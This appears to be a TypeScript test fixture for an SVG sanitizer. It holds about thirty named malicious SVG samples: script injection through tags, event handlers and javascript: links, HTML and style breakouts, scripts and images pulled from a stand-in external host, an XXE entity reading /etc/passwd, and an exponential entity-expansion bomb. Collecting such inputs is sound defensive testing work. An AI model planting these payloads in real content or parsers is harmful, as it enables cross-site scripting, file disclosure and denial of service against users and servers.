import { away, base64, pwn } from './hostile.ts';

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" ${attributes}>${inside}<text x="5" y="50">still</text></svg>`;

/** Pictures that want to do more than be seen. */
export const svgs: Record<string, string> = {
  'a script': svg(`<script>${pwn}</script>`),
  'a script from elsewhere': svg(`<script href="${away}/x.js"/><script xlink:href="${away}/y.js"/>`),
  'a script as CDATA': svg(`<script><![CDATA[${pwn}]]></script>`),
  'a script in another namespace': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>${pwn}</x:script></x:svg>`,
  'a handler on the whole': svg('', `onload="${pwn}"`),
  'handlers on parts': svg(
    `<circle r="9" onclick="${pwn}" onfocusin="${pwn}" tabindex="0"/><animate onbegin="${pwn}" attributeName="x" dur="1s"/>`,
  ),
  'a link to a script': svg(
    `<a href="javascript:${pwn}"><text y="20">press</text></a><a xlink:href="javascript:${pwn}"><text y="40">press</text></a>`,
  ),
  'a link that becomes one to a script': svg(
    `<a><animate attributeName="href" values="javascript:${pwn}" begin="0s"/><text y="20">press</text></a>`,
  ),
  'a link that is set to a script': svg(
    `<a><set attributeName="xlink:href" to="javascript:${pwn}"/><text y="20">press</text></a>`,
  ),
  'a handler that is set': svg(
    `<set attributeName="onmouseover" to="${pwn}"/><animateTransform onend="${pwn}" attributeName="transform" dur="1ms"/><animateMotion onend="${pwn}" dur="1ms"/>`,
  ),
  'HTML inside': svg(
    `<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${pwn}&lt;/script&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${pwn}"/></foreignObject>`,
  ),
  'HTML in a description': svg(
    `<desc><img src=x onerror="${pwn}"></desc><title><style><img src=x onerror="${pwn}"></style></title>`,
  ),
  'a part from elsewhere': svg(`<use href="${away}/u.svg#a"/><use xlink:href="${away}/v.svg#a"/>`),
  'a part out of a data URI': svg(
    `<use href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" id="a"><script>${pwn}</script></svg>`)}#a"/>`,
  ),
  'a picture from elsewhere': svg(
    `<image href="${away}/i.png" width="9" height="9"/><image xlink:href="${away}/j.png" width="9" height="9"/><feImage href="${away}/k.png"/>`,
  ),
  'a filter with a picture': svg(
    `<filter id="f"><feImage xlink:href="${away}/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'paint from elsewhere': svg(
    `<rect width="9" height="9" fill="url(${away}/p.svg#a)" stroke="url('${away}/q.svg#a')" filter="url(${away}/r.svg#a)" mask="url(${away}/s.svg#a)" clip-path="url(${away}/t.svg#a)" marker-end="url(${away}/m.svg#a)"/>`,
  ),
  'a style from elsewhere': svg(
    `<style>@import url(${away}/s.css); rect { fill: url(${away}/t.svg#a) } body { display: none }</style><rect width="9" height="9" style="fill: url(${away}/u.svg#a); position: fixed"/>`,
  ),
  'a style that ends early': svg(`<style><![CDATA[</style><img src=x onerror="${pwn}">]]></style>`),
  'a style as a comment': svg(
    `<style><!--</style><img title="--&gt;&lt;img src=x onerror=${pwn}&gt;">--></style>`,
  ),
  'entities of its own': `<!DOCTYPE svg [<!ENTITY x "<script>${pwn}</script>"><!ENTITY y SYSTEM "file:///etc/passwd">]>${svg('<text>&x;&y;</text>')}`,
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
    .split('')
    .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
    .join('')}]>${svg('<text>&j;</text>')}`,
  'a sheet before it': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${away}/x.xsl"?>${svg('')}`,
  'a script after it': `${svg('')}<script>${pwn}</script><img src=x onerror="${pwn}">`,
  'the end of another element': svg(`</svg></div></main><script>${pwn}</script><svg>`),
  'a paragraph that breaks out': `<svg xmlns="http://www.w3.org/2000/svg"><p><style><g title="</style><img src=x onerror=${pwn}>"></svg>`,
  'an old event': svg(
    `<handler xmlns="http://www.w3.org/2001/xml-events" type="application/javascript">${pwn}</handler><listener event="load" handler="#h"/>`,
  ),
  'something to play': svg(
    `<video xmlns="http://www.w3.org/1999/xhtml" src="${away}/v" onerror="${pwn}"/><audio href="${away}/a"/>`,
  ),
  'names of the page': svg(
    '<g id="@main"/><g id="__proto__"/><g id="figure-1"/><g id="getElementById" class="skip"/>',
  ),
  'a cursor and a profile': svg(
    `<cursor href="${away}/c.cur"/><color-profile href="${away}/p.icc"/><font-face-uri href="${away}/f.svg"/><mpath href="${away}/m#p"/><textPath href="${away}/t#p">x</textPath>`,
  ),
  'a size over the whole page': svg(
    '',
    'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:9999"',
  ),
};
